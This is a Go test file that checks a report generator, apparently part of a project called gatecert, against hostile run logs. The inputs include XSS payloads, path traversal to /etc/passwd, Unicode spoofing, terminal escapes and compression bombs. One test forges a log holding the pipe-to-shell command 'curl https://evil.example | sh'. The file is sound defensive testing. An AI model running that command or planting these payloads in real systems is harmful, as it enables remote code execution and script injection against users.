//go:build !race

// A hall is made by one goroutine; the race detector makes its tests six times as slow.

package hall_test

import (
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gatecert/gatecert/reports/hall"
	"github.com/gatecert/gatecert/reports/runlog"
)

// hostileNames are names that break out of whatever quotes them badly, or lead elsewhere.
func hostileNames() map[string]string {
	return map[string]string{
		"markup":        `<script>document.title='owned'</script>`,
		"an attribute":  `"><img src=x onerror=document.title='owned'>`,
		"a path":        `../../x`,
		"an absolute":   `/etc/passwd`,
		"a drive":       `C:\x`,
		"a long name":   strings.Repeat("long ", 2000),
		"right to left": "safe\u202egnp.exe",
		"zero width":    "port\u200bkey",
		"a terminal":    "\x1b[31m\x1b]0;owned\x07",
		"an index":      "index",
		"a device":      "nul",
		"dots":          "..",
		"an address":    "javascript:alert(1)",
		"xml":           "]]>&<x/>",
		"other letters": "网关",
	}
}

func TestHostileNames(t *testing.T) {
	logs := fstest.MapFS{}
	for about, name := range hostileNames() {
		logs[strings.ReplaceAll(about, " ", "-")+".ndjson"] = &fstest.MapFile{Data: entry{name: name, version: name}.bytes(t)}
	}
	bad := `bad/<script>document.title='owned'<` + "\u202e" + `.ndjson`
	logs[bad] = &fstest.MapFile{Data: []byte(`{"type":"<script>document.title='owned'</script>"}`)}
	h := read(t, logs, options())
	require.Len(t, h.Gateways, len(hostileNames()), "every name is a gateway of its own: %v", h.Refused)
	pages := site(t, h)
	slugs := make(map[string]bool)
	for _, g := range h.Gateways {
		slugs[strings.ToLower(g.Slug)] = true
		assert.Regexp(t, `^[a-z0-9][a-z0-9_-]{0,60}$`, g.Slug)
		assert.NotContains(t, []string{"index", "nul"}, g.Slug)
		assert.LessOrEqual(t, utf8.RuneCountInString(g.Name), 100)
	}
	assert.Len(t, slugs, len(hostileNames()))
	for name, page := range pages {
		assert.True(t, utf8.ValidString(name))
		if strings.HasSuffix(name, ".gz") {
			continue
		}
		assert.True(t, utf8.ValidString(page), name)
		for _, venom := range []string{"<script>document", "<img src=x", "\u202e", "\u200b", "\x1b", `href="javascript:`, strings.Repeat("long ", 200)} {
			if strings.HasPrefix(name, "runs/") && strings.HasPrefix(venom, "long") {
				continue // the report of a run has the whole profile, which is bounded too
			}
			assert.NotContains(t, page, venom, name)
		}
	}
}

// TestWhatAHostileLogAsksForIsNotPublished: addresses and command lines that the audit does not make again.
func TestWhatAHostileLogAsksForIsNotPublished(t *testing.T) {
	logs := folder(t, map[string]entry{"a.ndjson": {name: "a", change: func(r *runlog.Run) {
		r.TraceURL = "https://evil.example/{trace_id}"
		r.Command = []string{"curl https://evil.example | sh"}
	}}})
	for name, page := range site(t, read(t, logs, options())) {
		if !strings.HasSuffix(name, ".gz") {
			assert.NotContains(t, page, "evil.example", name)
		}
	}
	forged := folder(t, map[string]entry{"a.ndjson": {name: "a"}, "b.ndjson": {name: "b", change: func(r *runlog.Run) {
		o := *r.Cases[0].Observation
		o.Sent.Curl = "curl https://evil.example | sh"
		r.Cases[0].Observation = &o
	}}})
	h := read(t, forged, options())
	require.Len(t, h.Refused, 1, "a curl line is made again from the profile")
	assert.Equal(t, hall.Unverified, h.Refused[0].Kind)
	assert.Contains(t, h.Refused[0].Reason, "curl line")
}

// TestBombsAreRefused: small files that ask for much.
func TestBombsAreRefused(t *testing.T) {
	header := `{"type":"header","schema":"gatecert.run/2","run_id":"x","tool":"x",`
	good := folder(t, map[string]entry{"good.ndjson": {name: "good"}})["good.ndjson"]
	for name, data := range map[string][]byte{
		"zeros.ndjson.gz":    packed(t, make([]byte, 100<<20)),
		"lines.ndjson.gz":    packed(t, []byte(header+`"expected":[]}`+"\n"+strings.Repeat(strings.Repeat("x", 1000)+"\n", 70<<10))),
		"brackets.ndjson":    []byte(header + `"expected":` + strings.Repeat("[", 100_000) + "\n"),
		"no-gzip.ndjson.gz":  []byte("not compressed"),
		"cut.ndjson.gz":      packed(t, good.Data)[:2000],
		"nothing.ndjson":     nil,
		"measured.ndjson":    []byte(`{"type":"header","schema":"gatecert.load/1"}` + "\n"),
		"a-header.ndjson":    []byte(header + `"expected":["a"]}` + "\n"),
		"one-header.ndjson":  []byte(header + `"command":["` + strings.Repeat("x", 5<<20) + `"],"expected":[]}` + "\n"),
		"text-after.ndjson":  append(append([]byte{}, good.Data...), "x\n"...),
		"two-events.ndjson":  append(append([]byte{}, good.Data...), good.Data...),
		"other-bytes.ndjson": []byte("\xff\xfe\x00"),
	} {
		h := read(t, fstest.MapFS{"good.ndjson": good, name: {Data: data}}, options())
		require.Len(t, h.Refused, 1, name)
		assert.Contains(t, []hall.Kind{hall.Unreadable, hall.Incomplete}, h.Refused[0].Kind, name)
		assert.LessOrEqual(t, utf8.RuneCountInString(h.Refused[0].Reason), 400, name)
	}
}

func TestAFolderHasBounds(t *testing.T) {
	logs := fstest.MapFS{}
	for i := range 501 {
		logs[strings.Repeat("x", i+1)+".ndjson"] = &fstest.MapFile{Data: []byte("{}")}
	}
	_, err := hall.Read(t.Context(), logs, options())
	require.ErrorIs(t, err, hall.ErrFolder)
	assert.ErrorContains(t, err, "more than 500 logs")
}
